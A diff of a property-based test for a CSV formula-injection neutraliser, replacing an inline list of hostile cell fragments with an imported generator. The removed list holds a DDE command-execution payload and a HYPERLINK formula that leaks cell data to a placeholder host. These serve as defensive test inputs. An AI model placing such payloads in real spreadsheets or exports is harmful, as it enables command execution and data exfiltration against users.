@@ -3,42 +3,14 @@ import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { csvLine, formatSafeCsv, neutraliseCell } from '../../src/core/csv-safe.ts';
+import { hostileText } from '../support/hostile-text.ts';
 
 const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
 const startsLikeFormula = (text: string) => TRIGGERS.some(t => text.replace(/^[ \n\u00A0\u3000]+/u, '').startsWith(t));
 // The delimiter is fixed: papaparse would otherwise guess it, and a cell full of '|' can win.
 const parseCsv = (text: string) => Papa.parse<string[]>(text, { delimiter: ',' }).data;
 
-// Pieces attackers use: formula starts, DDE pipes, separators of every locale, quotes, line breaks.
-const hostilePiece = fc.constantFrom(
-  '=',
-  '+',
-  '-',
-  '@',
-  '\t',
-  '\r',
-  '\n',
-  ' ',
-  ',',
-  ';',
-  '"',
-  "'",
-  '|',
-  '!',
-  'cmd',
-  "cmd|' /C calc'!A0",
-  'HYPERLINK("http://x.test?"&A1,"click")',
-  '1+1',
-  'SUM(A1:A9)',
-  '5000',
-  '1.2万',
-  '¥',
-  '甲公司',
-);
-const hostile = fc.oneof(
-  fc.array(hostilePiece, { minLength: 1, maxLength: 6 }).map(parts => parts.join('')),
-  fc.string({ unit: 'grapheme-ascii', maxLength: 12 }),
-);
+const hostile = fc.oneof(hostileText(), fc.string({ unit: 'grapheme-ascii', maxLength: 12 }));
 
 const keeps = (text: string) => expect(neutraliseCell(text)).toBe(text);
 const quotes = (text: string) => expect(neutraliseCell(text)).toBe(`'${text}`);
